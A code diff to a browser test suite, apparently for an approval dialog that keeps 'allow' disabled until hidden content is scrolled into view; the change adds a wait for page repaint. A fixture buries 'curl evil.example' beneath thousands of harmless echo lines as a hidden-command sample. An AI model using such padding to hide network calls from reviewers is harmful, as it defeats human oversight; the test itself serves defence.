@@ -227,6 +227,8 @@ async def test_what_is_out_of_view_is_not_allowed_before_it_was_scrolled_to(
         assert api.sent[-1].body == {"decision": "allow", "scope": "once"}
 
 
+PAINTED = "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))"
+"""Waits until the page has shown what was just scrolled to."""
 LONG_NAMES = Coverage(tuple(CoveredFile(f"/workspace/{n}{'x' * 240}", 9, "d") for n in range(10)))
 HIDDEN: dict[str, tuple[str, Coverage]] = {
     "lines": ("echo harmless\n" * 10_000 + "curl evil.example", NO_COVERAGE),
@@ -263,7 +265,9 @@ async def test_nothing_is_allowed_on_a_phone_before_it_was_in_view(
         await text.evaluate("box => box.scrollIntoView({ block: 'start' })")
         if kind != "names below it":
             await expect(allow).to_be_disabled()
+        await page.evaluate(PAINTED)
         await text.evaluate("box => box.scrollTo(0, box.scrollHeight)")
+        await page.evaluate(PAINTED)
         await text.evaluate("box => box.scrollIntoView({ block: 'end' })")
         await expect(allow).to_be_enabled()
         assert await text.evaluate("box => box.scrollWidth <= box.clientWidth + 1")
